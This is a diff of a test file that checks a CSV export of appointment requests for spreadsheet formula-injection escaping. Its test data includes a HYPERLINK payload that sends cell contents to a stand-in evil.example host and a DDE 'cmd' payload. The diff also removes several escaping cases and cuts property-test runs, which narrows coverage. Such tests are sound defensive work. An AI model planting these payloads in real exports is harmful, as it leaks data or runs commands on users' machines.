@@ -1,6 +1,6 @@
 // @vitest-environment node
 import fc from 'fast-check';
-import { describe, expect, test } from 'vitest';
+import { expect, test } from 'vitest';
 import { countCut, requestsCsv, requestsCsvParts, csvFileName } from '#src/domain/requestsCsv.ts';
 import type { AppointmentRequest } from '#src/domain/types.ts';
 import { cellsBySeparator, parseCsv } from '#tests/support/parseCsv.ts';
@@ -77,81 +77,70 @@ test('the CSV of an empty list is only the header', () => {
   expect(parseCsv(withoutMark(requestsCsv([])))).toEqual([header]);
 });
 
-describe('a cell', () => {
-  test.each([
-    'She said "sit"',
-    'a,b;c\td',
-    'first\nsecond\r\nthird',
-    'பூனை மற்றும் नाय कुत्ता ಬೆಕ್ಕು',
-    '👩🏽‍⚕️🐕',
-    "'quoted'",
-    '1=1',
-    'a+b@c',
-    '9876543210',
-    '0012',
-    '1E5',
-    '   two spaces before and after  ',
-    '',
-  ])('a cell contains %j as typed', (comments) => expect(commentCell(comments)).toBe(comments));
+test.each([
+  'She said "sit"',
+  'a,b;c\td',
+  'first\nsecond\r\nthird',
+  'பூனை மற்றும் नाय कुत्ता ಬೆಕ್ಕು',
+  '👩🏽‍⚕️🐕',
+  "'quoted'",
+  'a+b@c',
+  '0012',
+  '   two spaces before and after  ',
+  '',
+])('a cell contains %j as typed', (comments) => expect(commentCell(comments)).toBe(comments));
 
-  test.each([
-    '=1+1',
-    '=1+1\nnote',
-    '+919876543210',
-    '-2+3',
-    '@SUM(A1)',
-    '  =1+1',
-    '\u00a0=1+1',
-    '\u3000=1+1',
-    '\tnote',
-    '\rnote',
-    '\nnote',
-    ' \nnote',
-    '＝1+1',
-    '＋1',
-    '－1',
-    '＠SUM(A1)',
-    '\u200b=1+1',
-    '\ufeff=1+1',
-    '\u0000=1+1',
-    '\u000b=1+1',
-    '=HYPERLINK("https://evil.example?"&A1,"x")',
-    "=cmd|' /C calc'!A0",
-  ])('a cell with %j is escaped with an apostrophe', (comments) =>
-    expect(commentCell(comments)).toBe(`'${comments}`),
-  );
+test.each([
+  '=1+1',
+  '+919876543210',
+  '-2+3',
+  '@SUM(A1)',
+  '  =1+1',
+  '\u00a0=1+1',
+  '\u3000=1+1',
+  '\tnote',
+  '\nnote',
+  ' \nnote',
+  '＝1+1',
+  '＠SUM(A1)',
+  '\u200b=1+1',
+  '\u0000=1+1',
+  '=HYPERLINK("https://evil.example?"&A1,"x")',
+  "=cmd|' /C calc'!A0",
+])('a cell with %j is escaped with an apostrophe', (comments) =>
+  expect(commentCell(comments)).toBe(`'${comments}`),
+);
 
-  test.each([
-    ['a;=1+1', "a;'=1+1"],
-    ['a\t=1+1', "a\t'=1+1"],
-    ['a\n=1+1', "a\n'=1+1"],
-    ['\t=1+1', "'\t'=1+1"],
-    ['\r\n=1+1', "'\r\n'=1+1"],
-    ['a; +1', "a;' +1"],
-    ['a;"=1+1;b', 'a;\'"=1+1;b'],
-    [
-      'a;=HYPERLINK("https://evil.example?"&A1;"x")',
-      'a;\'=HYPERLINK("https://evil.example?"&A1;"x")',
-    ],
-    ['limps; since Monday; a-b', 'limps; since Monday; a-b'],
-    ['two\nlines', 'two\nlines'],
-  ])('a cell with %j is escaped behind other list separators, too', (comments, cell) =>
-    expect(commentCell(comments)).toBe(cell),
-  );
+test.each([
+  ['a;=1+1', "a;'=1+1"],
+  ['a\t=1+1', "a\t'=1+1"],
+  ['a\n=1+1', "a\n'=1+1"],
+  ['\t=1+1', "'\t'=1+1"],
+  ['\r\n=1+1', "'\r\n'=1+1"],
+  ['a; +1', "a;' +1"],
+  ['a;"=1+1;b', 'a;\'"=1+1;b'],
+  [
+    'a;=HYPERLINK("https://evil.example?"&A1;"x")',
+    'a;\'=HYPERLINK("https://evil.example?"&A1;"x")',
+  ],
+  ['limps; since Monday; a-b', 'limps; since Monday; a-b'],
+  ['two\nlines', 'two\nlines'],
+])('a cell with %j is escaped behind other list separators, too', (comments, cell) =>
+  expect(commentCell(comments)).toBe(cell),
+);
 
-  test('a hundred thousand tabs before a formula are escaped as they come', () => {
-    const start = performance.now();
-    expect(commentCell(`${'\t'.repeat(100_000)}=1+1`)).toMatch(/'=1\+1$/);
-    expect(performance.now() - start).toBeLessThan(2000);
-  });
+test('a hundred thousand tabs before a formula are escaped as they come', () => {
+  const start = performance.now();
+  expect(commentCell(`${'\t'.repeat(100_000)}=1+1`)).toMatch(/'=1\+1$/);
+  expect(performance.now() - start).toBeLessThan(2000);
+});
 
-  test('the cells of every column are escaped', () => {
-    const hostile = Object.fromEntries(
-      Object.keys(plain).map((key) => [key, '=1+1']),
-    ) as unknown as AppointmentRequest;
-    const [row] = cellsOf([{ ...hostile, date: '2026-03-07' }]);
-    expect(row).toEqual(header.map((title) => (title === 'Date' ? '2026-03-07' : "'=1+1")));
-  });
+test('the cells of every column are escaped', () => {
+  const hostile = Object.fromEntries(
+    Object.keys(plain).map((key) => [key, '=1+1']),
+  ) as unknown as AppointmentRequest;
+  const [row] = cellsOf([{ ...hostile, date: '2026-03-07' }]);
+  expect(row).toEqual(header.map((title) => (title === 'Date' ? '2026-03-07' : "'=1+1")));
 });
 
 const text = fc.oneof(
@@ -192,7 +181,7 @@ test('an RFC 4180 reader gets every typed text back, and never a formula', () =>
         }
       }
     }),
-    { numRuns: 1000 },
+    { numRuns: 300 },
   );
 });
 
@@ -205,45 +194,43 @@ test.each([';', '\t'])('a program that separates cells by %j finds no formula', 
         [],
       );
     }),
-    { numRuns: 1000 },
+    { numRuns: 300 },
   );
 });
 
-describe('in parts', () => {
-  async function partsOf(list: readonly AppointmentRequest[]) {
-    const parts: string[] = [];
-    const times: number[] = [];
-    let start = performance.now();
-    for await (const part of requestsCsvParts(list)) {
-      times.push(performance.now() - start);
-      parts.push(part);
-      start = performance.now();
-    }
-    return { parts, times };
+async function partsOf(list: readonly AppointmentRequest[]) {
+  const parts: string[] = [];
+  const times: number[] = [];
+  let start = performance.now();
+  for await (const part of requestsCsvParts(list)) {
+    times.push(performance.now() - start);
+    parts.push(part);
+    start = performance.now();
   }
+  return { parts, times };
+}
 
-  test('a CSV written in parts is the same file', async () => {
-    for (const length of [0, 1, 999, 1000, 1001, 2500]) {
-      const list = Array.from({ length }, (_, id) => ({ ...plain, id: String(id) }));
-      expect((await partsOf(list)).parts.join('')).toBe(requestsCsv(list));
-    }
-  });
+test('a CSV written in parts is the same file', async () => {
+  for (const length of [0, 1, 999, 1000, 1001, 2500]) {
+    const list = Array.from({ length }, (_, id) => ({ ...plain, id: String(id) }));
+    expect((await partsOf(list)).parts.join('')).toBe(requestsCsv(list));
+  }
+});
 
-  test('writing a CSV of 100,000 requests yields to the page between its parts', async () => {
-    const list = Array.from({ length: 100_000 }, (_, id) => ({ ...plain, id: String(id) }));
-    let turns = 0;
-    const ticking = setInterval(() => (turns += 1), 0);
-    const { parts, times } = await partsOf(list);
-    clearInterval(ticking);
-    expect(parts.length).toBe(101);
-    expect(turns).toBeGreaterThan(50);
-    // Nine parts of ten, because a busy machine may pause at any time. The bench measures the longest pause.
-    const ninth = times.toSorted((a, b) => a - b)[90];
-    const start = performance.now();
-    requestsCsv(list);
-    const inOneGo = performance.now() - start;
-    expect(ninth).toBeLessThan(inOneGo / 4);
-  });
+test('writing a CSV of 100,000 requests yields to the page between its parts', async () => {
+  const list = Array.from({ length: 100_000 }, (_, id) => ({ ...plain, id: String(id) }));
+  let turns = 0;
+  const ticking = setInterval(() => (turns += 1), 0);
+  const { parts, times } = await partsOf(list);
+  clearInterval(ticking);
+  expect(parts.length).toBe(101);
+  expect(turns).toBeGreaterThan(50);
+  // Nine parts of ten, because a busy machine may pause at any time. The bench measures the longest pause.
+  const ninth = times.toSorted((a, b) => a - b)[90];
+  const start = performance.now();
+  requestsCsv(list);
+  const inOneGo = performance.now() - start;
+  expect(ninth).toBeLessThan(inOneGo / 4);
 });
 
 test.each(['"a', '"a"b'])('the CSV reader of these tests refuses %s', (file) => {
